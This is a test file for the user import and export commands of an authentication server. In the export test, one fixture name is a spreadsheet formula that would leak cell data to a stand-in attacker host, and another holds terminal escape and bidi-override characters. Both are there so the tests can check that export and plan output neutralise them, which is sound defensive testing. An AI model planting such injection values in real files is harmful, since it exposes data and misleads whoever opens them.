import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { EventEmitter } from 'node:events';
import { createWriteStream, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { PassThrough, Readable, Writable } from 'node:stream';
import { test } from 'node:test';
import { setImmediate as nextTurn, setTimeout as pause } from 'node:timers/promises';
import { runCommandLine } from '../../../src/cli/command-line.ts';
import { atOneMoment } from '../../../src/postgres/transaction.ts';
import { Browser } from '../../support/browser.ts';
import { assertRefused, commandLineFor } from '../../support/command-line.ts';
import { installedFor } from '../../support/installed.ts';
import { cheapHash, password, registerUser, startLatchkey } from '../../support/latchkey.ts';
import { startPgBouncer, withoutPreparedStatements } from '../../support/pgbouncer.ts';
import { compiled, ownEnvironment } from '../../support/program.ts';

const { origin, database, url } = await startLatchkey();
const { latchkey, directory } = commandLineFor(url);
const installed = installedFor(url);
await registerUser(database, { username: 'admin', password: cheapHash });
await database.query(`update users set is_admin = true where username = 'admin'`);

const file = (name: string, content: string): string => {
  const path = join(directory, name);
  writeFileSync(path, content);
  return path;
};

const csv = (...lines: string[]) => file('people.csv', `${lines.join('\n')}\n`);
const jsonl = (...people: unknown[]) =>
  file('people.jsonl', `${people.map((person) => JSON.stringify(person)).join('\n')}\n`);

async function find(subject: string) {
  const { rows } = await database.query(
    `select user_id, username, email, email_verified, name, source, coalesce(password_hash, password_bcrypt) as hash,
       disabled_at is not null as disabled
     from users where subject = $1`,
    [subject],
  );
  return rows[0];
}

const countPeople = async () => (await database.query('select count(*)::integer as count from users')).rows[0].count;
const problemsOf = async (path: string, ...words: string[]) => {
  const before = await countPeople();
  const { code, out } = await latchkey(['user', 'import', path, ...words]);
  assert.equal(code, 1);
  assert.match(out, /^Nothing was imported:\n/);
  assert.equal(await countPeople(), before);
  return out.trimEnd().split('\n').slice(1);
};

test('people of a CSV file get their subjects, names, addresses and hashes, and sign in', async () => {
  const path = csv(
    'username,subject,email,password_hash,name,disabled',
    `grace,u-1,grace@example.com,${cheapHash},"Hopper, ""Amazing"" Grace",`,
    `,u-2,linus@example.com,,Linus,no`,
    'ken,u-3,,,"two\nlines? no",true'.replace('\n', ' '),
  );
  const { code, out } = await latchkey(['user', 'import', path]);
  assert.deepEqual([code, out], [0, `Imported ${path}: 3 created, 0 updated, 0 unchanged.\n`]);
  const { user_id, ...grace } = await find('u-1');
  assert.deepEqual(grace, {
    username: 'grace',
    email: 'grace@example.com',
    email_verified: true,
    name: 'Hopper, "Amazing" Grace',
    source: 'here',
    hash: cheapHash,
    disabled: false,
  });
  assert.deepEqual((await find('u-2')).username, 'linus@example.com');
  assert.deepEqual((await find('u-3')).disabled, true);
  const browser = new Browser(origin);
  const signedIn = await browser.submit(await browser.visit('/login'), 'id="login"', {
    username: 'GRACE@example.com',
    password,
  });
  assert.equal(signedIn.status, 200);
  assert.match(signedIn.text, /Amazing/);
  const { rows } = await database.query(`select detail from audit_events where event = 'users_imported'`);
  assert.deepEqual(rows, [{ detail: '3 created, 0 updated' }]);
});

test('a repeated file changes nothing, and a changed one what it mentions; an earlier hash does not replace a newer password', async () => {
  const people = [
    { subject: 'r-1', username: 'rhea', email: 'rhea@example.com', name: 'Rhea', password_hash: cheapHash },
    { subject: 'r-2', username: 'remus' },
  ];
  await latchkey(['user', 'import', jsonl(...people)]);
  assert.match((await latchkey(['user', 'import', jsonl(...people)])).out, /0 created, 0 updated, 2 unchanged/);
  const own = cheapHash.replace('$04$', '$05$');
  await database.query(`update users set password_bcrypt = $1 where subject = 'r-1'`, [own]);
  const { name, ...unnamed } = people[0] ?? {};
  const changed = jsonl({ ...unnamed, username: 'rhea-2', email: null }, people[1]);
  const plan = await latchkey(['user', 'import', changed, '--plan', '--json']);
  assert.deepEqual(JSON.parse(plan.out), [
    { action: 'update', kind: 'user', id: 'r-1', changes: { email: '', username: 'rhea-2', email_verified: false } },
  ]);
  assert.deepEqual((await find('r-1')).username, 'rhea', 'a plan changes nothing');
  const text = (await latchkey(['user', 'import', changed, '--plan'])).out;
  assert.match(
    text,
    /^update r-1: .*username "rhea-2".*\n0 created, 1 updated, 1 unchanged\. Nothing was changed\.\n$/,
  );
  await latchkey(['user', 'import', changed]);
  const { user_id, ...rhea } = await find('r-1');
  assert.deepEqual(rhea, {
    username: 'rhea-2',
    email: null,
    email_verified: false,
    name,
    source: 'here',
    hash: own,
    disabled: false,
  });
  const another = cheapHash.replace('$04$', '$06$');
  await latchkey(['user', 'import', jsonl({ subject: 'r-1', password_hash: another, disabled: true })]);
  assert.deepEqual([(await find('r-1')).hash, (await find('r-1')).disabled], [another, true]);
  const { rows: disabled } = await database.query(
    `select users.subject from audit_events join users using (user_id) where event = 'user_disabled' and detail = 'by an import'`,
  );
  assert.deepEqual(disabled, [{ subject: 'r-1' }]);
  assert.equal((await find('r-1')).username, 'rhea-2');
});

test('all problems are told at once with their lines, and nothing is stored', async () => {
  const told = await problemsOf(
    jsonl(
      { subject: 'p-1', username: 'paul' },
      { subject: 'p-2', username: 'PAUL' },
      { subject: 'p-1', username: 'peter' },
      { username: 'pia' },
      { subject: 'p-5', username: 'phil', email: 'no address' },
      { subject: 'p-6', username: 'pat', password_hash: '$1$md5$md5' },
      { subject: 'p-7', username: 'pam', admin: true },
      ['p-8'],
      { subject: 'p-9', username: 'admin' },
      { subject: 'p-10' },
      { subject: 'p-11', username: 'x\u0000y' },
      { subject: 'p-12', username: 'pru', disabled: 'perhaps' },
      { subject: 'p-13', username: 'half \ud800' },
    ),
  );
  assert.deepEqual(
    told.map((line) => /^line (\d+): /.exec(line)?.[1]),
    ['2', '3', '4', '5', '6', '7', '8', '9', '10', '11', '12', '13'],
  );
  for (const [index, sentence] of [
    [0, "'PAUL' is also a name or address of line 1"],
    [1, "subject 'p-1' is also that of line 1"],
    [2, 'subject is missing'],
    [3, "email 'no address' is not an e-mail address"],
    [5, 'there is no member "admin"'],
    [6, 'is no JSON object'],
    [7, "'admin' is a name or address of the user 'admin'"],
    [8, 'username is missing'],
    [9, 'username contains a NUL or half a character'],
    [10, 'disabled is no true or false'],
    [11, 'username contains a NUL or half a character'],
  ] as const) {
    assert.ok(told[index]?.includes(sentence), `${told[index]}`);
  }
  assert.deepEqual(
    await problemsOf(
      file(
        'twice.jsonl',
        `{"subject":"d-1","username":"doe","email":"a\\":b@example.com"}
{"subject":"d-2","username":"dot","user\\u006eame":"dan"}\n`,
      ),
    ),
    ['line 2: a member is there twice'],
  );
  const json = await latchkey(['user', 'import', jsonl({ subject: 'q' }), '--json']);
  assert.deepEqual(
    [json.code, JSON.parse(json.out)],
    [1, { problems: [{ line: 1, problem: 'username is missing' }], total: 1 }],
  );
});

test('of more than a hundred problems the first hundred are told, and the number of the others', async () => {
  const told = await problemsOf(jsonl(...Array.from({ length: 250 }, (_, index) => ({ subject: `many-${index}` }))));
  assert.deepEqual([told.length, told.at(-1)], [101, '… and 150 more.']);
});

test('an account of another source, an administrator, and the number of somebody are clashes', async () => {
  await latchkey(['user', 'import', jsonl({ subject: 's-1', username: 'sue' }), '--source', 'website']);
  assert.equal((await find('s-1')).source, 'website');
  const { rows } = await database.query(`select user_id::text as number from users where username = 'admin'`);
  const { number } = rows[0];
  await registerUser(database, { username: 'plain', password: cheapHash });
  const { rows: plain } = await database.query(`select user_id::text as number from users where username = 'plain'`);
  assert.deepEqual(
    await problemsOf(
      jsonl(
        { subject: 's-1', username: 'susan' },
        { subject: number, username: 'mallory' },
        { subject: number, username: 'admin', name: 'Not me' },
        { subject: plain[0].number, username: 'mallory-2' },
      ),
    ),
    [
      "line 1: subject 's-1' belongs to an account of the source 'website'",
      `line 2: subject '${number}' belongs to the administrator 'admin', whom an import cannot change`,
      `line 3: subject '${number}' belongs to the administrator 'admin', whom an import cannot change`,
      `line 3: subject '${number}' is also that of line 2`,
      `line 4: subject '${plain[0].number}' is the number of the user 'plain', and the username is 'mallory-2'`,
    ],
  );
  assert.match((await latchkey(['user', 'import', jsonl({ subject: number, username: 'admin' })])).out, /1 unchanged/);
});

test('names and addresses go from one person of a file to another, in a swap, a chain and to somebody new, in any order of lines', async () => {
  const before = [
    { subject: 'w-1', username: 'wim', email: 'wim@example.com' },
    { subject: 'w-2', username: 'wum', email: 'wum@example.com' },
    { subject: 'w-3', username: 'w3' },
    { subject: 'w-4', username: 'w4' },
  ];
  const after = [
    { subject: 'w-1', username: 'wum', email: 'wum@example.com' },
    { subject: 'w-2', username: 'WIM', email: 'wim@example.com' },
    { subject: 'w-3', username: 'w4' },
    { subject: 'w-4', username: 'w5' },
    { subject: 'w-5', username: 'w3' },
  ];
  const { rows: numbers } = await database.query('select max(user_id) as last from users');
  for (const people of [after, [...after].reverse()]) {
    await latchkey(['user', 'import', jsonl(...before)]);
    const { out } = await latchkey(['user', 'import', jsonl(...people)]);
    assert.match(out, /1 created, 4 updated, 0 unchanged/);
    for (const { subject, username, email = null } of after) {
      const found = await find(subject);
      assert.deepEqual([found.username, found.email, found.email_verified], [username, email, email !== null]);
      const names = `select name from sign_in_names where user_id = $1 order by name`;
      const expected = [username.toLowerCase(), ...(email === null ? [] : [email])];
      assert.deepEqual(
        (await database.query(names, [found.user_id])).rows.map(({ name }) => name).sort(),
        expected.sort(),
      );
    }
    await database.query('delete from users where user_id > $1', [numbers[0].last]);
  }
});

test('a name or address of somebody whom the file does not mention, or who keeps it, is a clash', async () => {
  await latchkey(['user', 'import', jsonl({ subject: 'k-1', username: 'kim', email: 'kim@example.com' })]);
  assert.deepEqual(await problemsOf(jsonl({ subject: 'k-2', username: 'kim' })), [
    "line 1: 'kim' is a name or address of the user 'kim'",
  ]);
  assert.deepEqual(
    await problemsOf(jsonl({ subject: 'k-2', username: 'kim@example.com' }, { subject: 'k-1', username: 'kym' })),
    [
      "line 1: 'kim@example.com' is a name or address of the user 'kim'",
      "line 2: 'kim@example.com' is also a name or address of line 1",
    ],
  );
  const moved = jsonl({ subject: 'k-2', username: 'kim@example.com' }, { subject: 'k-1', email_verified: false });
  assert.match((await latchkey(['user', 'import', moved])).out, /1 created, 1 updated/);
});

test('whom an operator disables or enables stays so until the file says something else than the last time', async () => {
  const says = (disabled?: boolean) =>
    latchkey(['user', 'import', jsonl({ subject: 'b-1', username: 'bea', disabled })]);
  const isDisabled = async () => (await find('b-1')).disabled;
  await says(false);
  await latchkey(['user', 'disable', 'bea']);
  assert.match((await says(false)).out, /1 unchanged/);
  assert.equal(await isDisabled(), true);
  await says();
  assert.equal(await isDisabled(), true);
  await latchkey(['user', 'enable', 'bea']);
  await says(true);
  assert.equal(await isDisabled(), true);
  await latchkey(['user', 'enable', 'bea']);
  assert.match((await says(true)).out, /1 unchanged/);
  assert.equal(await isDisabled(), false);
  assert.match((await says(false)).out, /1 unchanged/);
  await says(true);
  assert.equal(await isDisabled(), true, 'the file says something else again');
  await says(false);
  assert.equal(await isDisabled(), false);
});

test('an export is what an import reads, with every byte of a name, and has hashes only if they are asked for', async () => {
  const odd = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    '+1',
    '-2',
    '@SUM(1)',
    'a,b',
    '"quoted"',
    ' padded ',
    '日本 🙂',
  ];
  await latchkey([
    'user',
    'import',
    jsonl(...odd.map((name, index) => ({ subject: `x-${index}`, username: `x${index}`, name }))),
  ]);
  for (const words of [[], ['--json']]) {
    const { out } = await latchkey(['user', 'export', ...words]);
    assert.ok(!out.includes('$2b$'));
    const copy = file(words.length > 0 ? 'copy.jsonl' : 'copy.csv', out);
    const counted = await countPeople();
    const again = await latchkey(['user', 'import', copy]);
    assert.match(again.out, new RegExp(`0 created, 0 updated, ${counted} unchanged`), again.out);
  }
  const safe = (await latchkey(['user', 'export', '--spreadsheet'])).out;
  assert.match(safe, /,"'=HYPERLINK\(""http/);
  assert.match((await latchkey(['user', 'export', '--hashes', '--json'])).out, /"password_hash":"\$2b\$04\$/);
  const terminal = await latchkey([
    'user',
    'import',
    jsonl({ subject: 'esc', username: 'esc', name: '\u009b2J\u202e' }),
    '--plan',
  ]);
  assert.ok(!/[\u009b\u202e]/.test(terminal.out));
});

test('an export of people is of one moment, also of those whom it has not read yet when they change', async () => {
  await database.query(
    `insert into users (username, name) select 'many-' || n, 'Before' from generate_series(1, 2500) n`,
  );
  const change = () =>
    database.query(`
      update users set username = 'swapping' where username = 'many-1';
      update users set username = 'many-1' where username = 'many-2500';
      update users set username = 'many-2500' where username = 'swapping';
      update users set name = 'Meanwhile' where username like 'many-%';
      insert into users (username) values ('meanwhile')`);
  let whole = '';
  const stdout = new Writable({
    highWaterMark: 1,
    write(chunk, _, done) {
      const isFirst = !whole.includes('many-1,');
      whole += chunk;
      // the first page has been read, and no other one
      if (isFirst && whole.includes('many-1,')) void change().then(() => done(), done);
      else done();
    },
  });
  const [stdin, stderr] = [Readable.from([]), new PassThrough()];
  const process = Object.assign(new EventEmitter(), { env: { DATABASE_URL: url }, stdin, stdout, stderr });
  assert.equal(await runCommandLine(['user', 'export'], process), 0);
  const names = whole.match(/(?<=,)many-\d+(?=,)/g) ?? [];
  assert.deepEqual([names.length, new Set(names).size], [2500, 2500]);
  assert.doesNotMatch(whole, /Meanwhile|meanwhile/);
  await database.query(`delete from users where username like 'many-%' or username = 'meanwhile'`);
});

test('an export whose reader stands still holds the database for ten minutes at most, and then fails', async () => {
  const timeout = await atOneMoment({ connectionString: url }, async (connection) => {
    const { rows } = await connection.query('show idle_in_transaction_session_timeout');
    return rows[0].idle_in_transaction_session_timeout;
  });
  assert.equal(timeout, '10min');
  await database.query(`insert into users (username) select 'many-' || n from generate_series(1, 1500) n`);
  const waiting =
    "select pg_terminate_backend(pid) from pg_stat_activity where datname = current_database() and state = 'idle in transaction'";
  // as the database does then; the reader goes on only when the reason, sent before the session ended, has been read
  const end = async () => {
    while ((await database.query(waiting)).rowCount !== 0) await pause(5);
    for (let turns = 0; turns < 2; turns += 1) await nextTurn();
  };
  let isEnded = false;
  const stdout = new Writable({
    highWaterMark: 1,
    write(_chunk, _, done) {
      if (isEnded) return done();
      isEnded = true;
      void end().then(() => done(), done);
    },
  });
  const [stdin, stderr] = [Readable.from([]), new PassThrough({ encoding: 'utf8' })];
  const process = Object.assign(new EventEmitter(), { env: { DATABASE_URL: url }, stdin, stdout, stderr });
  assert.equal(await runCommandLine(['user', 'export'], process), 1);
  assert.match(String(stderr.read()), /^terminating connection/);
  await database.query(`delete from users where username like 'many-%'`);
});

test('files that cannot be read are refused in one sentence: another ending, encoding or header, an endless line', async () => {
  assertRefused(await latchkey(['user', 'import', 'people.txt']), 2, /FILE must end in \.csv, \.jsonl or \.ndjson/);
  assertRefused(await latchkey(['user', 'import', join(directory, 'no.csv')]), 1, /no\.csv cannot be read: ENOENT/);
  execFileSync('mkfifo', [join(directory, 'pipe.csv')]);
  assertRefused(
    await latchkey(['user', 'import', join(directory, 'pipe.csv')]),
    1,
    /pipe\.csv cannot be read: it is no file/,
  );
  assertRefused(await latchkey(['user', 'import', csv('subject,user')]), 1, /line 1: there is no member "user"/);
  assertRefused(await latchkey(['user', 'import', csv('username')]), 1, /there is no column subject/);
  assertRefused(await latchkey(['user', 'import', csv('subject,subject')]), 1, /a column is there twice/);
  writeFileSync(join(directory, 'latin.csv'), Buffer.from('subject,username\n1,Ren\u00e9\n', 'latin1'));
  assertRefused(
    await latchkey(['user', 'import', join(directory, 'latin.csv')]),
    1,
    /line 2 is not UTF-8\. Nothing was imported/,
  );
  assertRefused(
    await latchkey(['user', 'import', csv('subject,username', `a,"b${'x'.repeat(70_000)}`)]),
    1,
    /the record from line 2 on is longer than 65536 characters/,
  );
  assertRefused(
    await latchkey(['user', 'import', csv('subject,username', 'a,"b')]),
    1,
    /the quote that begins in the record of line 2 has no end/,
  );
  assertRefused(
    await latchkey(['user', 'import', file('long.jsonl', 'x'.repeat(70_000))]),
    1,
    /line 1 is longer than 65536 characters/,
  );
  assertRefused(await latchkey(['user', 'import', csv(`subject${',name'.repeat(60)}`)]), 1, /more than 50 cells/);
  assert.deepEqual(await problemsOf(csv('subject,username', 'a,b,c')), ['line 2: has 3 cells, and the header has 2']);
});

test('of two imports at once, the second says that the first is running', async () => {
  const blocker = await database.connect();
  await blocker.query(`select pg_advisory_lock(hashtext('latchkey user import'))`);
  const { code, err } = await latchkey(['user', 'import', jsonl({ subject: 'two', username: 'two' })]);
  assert.deepEqual([code, err], [1, 'Another import is running: wait until it has ended.\n']);
  await blocker.query('select pg_advisory_unlock_all()');
  blocker.release();
});

test('Ctrl-C ends an import that waits, within a second, and it stores nothing', async () => {
  const blocker = await database.connect();
  await blocker.query('begin');
  await blocker.query('lock table users in access exclusive mode');
  const child = spawn(
    process.execPath,
    [compiled('cli.js'), 'user', 'import', jsonl({ subject: 'int', username: 'int' })],
    {
      env: { ...ownEnvironment(), DATABASE_URL: url },
    },
  );
  const ended = new Promise<number | null>((resolve) => child.once('close', resolve));
  const isWaiting = async () =>
    (
      await database.query(
        `select from pg_locks where database = (select oid from pg_database where datname = current_database()) and not granted and relation = 'users'::regclass`,
      )
    ).rowCount !== 0;
  while (!(await isWaiting())) await pause(20);
  const start = performance.now();
  child.kill('SIGINT');
  assert.equal(await ended, 130);
  assert.ok(performance.now() - start < 5000);
  await blocker.query('rollback');
  blocker.release();
  assert.equal(await find('int'), undefined);
});

test('five thousand people are stored as a whole and nobody is after a failure', async () => {
  const path = join(directory, 'crowd.jsonl');
  const out = createWriteStream(path);
  for (let index = 0; index < 5000; index += 1) {
    out.write(
      `${JSON.stringify({ subject: `c-${index}`, username: `crowd-${index}`, email: `c${index}@example.com`, password_hash: cheapHash })}\n`,
    );
  }
  await new Promise<void>((resolve) => out.end(resolve));
  // the third batch fails
  await database.query(
    `create function fail_third() returns trigger language plpgsql as $$ begin raise exception 'killed'; end $$`,
  );
  await database.query(
    `create trigger fail_third before insert on users for each row when (new.username = 'crowd-2500') execute function fail_third()`,
  );
  const broken = await latchkey(['user', 'import', path]);
  assert.deepEqual(broken.code, 1);
  assert.match(broken.err, /crowd\.jsonl: killed\. Nothing was imported\./);
  const stored = async () =>
    (await database.query(`select count(*)::integer as n from users where subject like 'c-%'`)).rows[0].n;
  assert.equal(await stored(), 0);
  await database.query('drop trigger fail_third on users');
  assert.match((await installed(['user', 'import', path])).out, /5000 created, 0 updated, 0 unchanged/);
  assert.equal(await stored(), 5000);
  const transactions = `select count(distinct xmin::text)::integer as n from users where subject like 'c-%'`;
  assert.equal((await database.query(transactions)).rows[0].n, 1);
});

test('an import behind PgBouncer in transaction mode leaves nothing on the connections of the pooler', {
  skip: withoutPreparedStatements,
}, async () => {
  const behind = commandLineFor(await startPgBouncer(url, { pool_mode: 'transaction', max_prepared_statements: 100 }));
  const path = jsonl({ subject: 'pooled', username: 'pooled' });
  const { out, err } = await behind.latchkey(['user', 'import', path]);
  assert.match(out, /1 created/, err);
  const left = `select relname from pg_class where relname like 'listed%'
    union all select 'a lock' from pg_locks where database = (select oid from pg_database where datname = current_database()) and locktype = 'advisory'`;
  assert.deepEqual((await database.query(left)).rows, []);
});

test('the number of a deleted person is a clash, too', async () => {
  await registerUser(database, { username: 'gone', password: cheapHash });
  const { rows } = await database.query(`select user_id::text as number from users where username = 'gone'`);
  const { number } = rows[0];
  await database.query(
    `update users set deleted_at = now(), disabled_at = now(), username = null, password_bcrypt = null, registered_password_bcrypt = null
     where user_id = $1`,
    [number],
  );
  assert.deepEqual(await problemsOf(jsonl({ subject: number, username: 'gone-again' })), [
    `line 1: subject '${number}' is the number of a person who was deleted`,
  ]);
});

test('whom an import disables, the view does not enable', async () => {
  await latchkey(['user', 'import', jsonl({ subject: 'v-1', username: 'vera' }), '--source', 'view']);
  await database.query(`update users set disabled_at = now(), disabled_there = true where subject = 'v-1'`);
  for (const disabled of [false, true])
    await latchkey(['user', 'import', jsonl({ subject: 'v-1', disabled }), '--source', 'view']);
  await database.query('select compare_with_view($1, $2, true)', [
    JSON.stringify([{ subject: 'v-1', disabled: false }]),
    [],
  ]);
  assert.equal((await find('v-1')).disabled, true);
});

test('what changes while an import is running, and its file does not mention, stays changed', async () => {
  const path = (name: string) => jsonl({ subject: 'busy', name }, { subject: 'chief', name });
  const people = ['busy', 'chief'].map((subject) => ({ subject, username: subject, email: `${subject}@example.com` }));
  await latchkey(['user', 'import', jsonl(...people)]);
  const blocker = await database.connect();
  await blocker.query('begin');
  await blocker.query(
    `update users set disabled_at = now(), email = 'own@example.com', email_verified = false where subject = 'busy'`,
  );
  await blocker.query(`update users set is_admin = true where subject = 'chief'`);
  const importing = latchkey(['user', 'import', path('New name')]);
  const isWaiting = `select from pg_stat_activity where datname = current_database() and wait_event_type = 'Lock'`;
  while (!(await database.query(isWaiting)).rowCount) await pause(20);
  await blocker.query('commit');
  blocker.release();
  assert.equal((await importing).code, 0);
  const { name, email, email_verified, disabled, username } = await find('busy');
  assert.deepEqual(
    [name, email, email_verified, disabled, username],
    ['New name', 'own@example.com', false, true, 'busy'],
  );
  assert.equal((await find('chief')).name, null, 'an administrator by now');
  await database.query(`update users set is_admin = false where subject = 'chief'`);
});
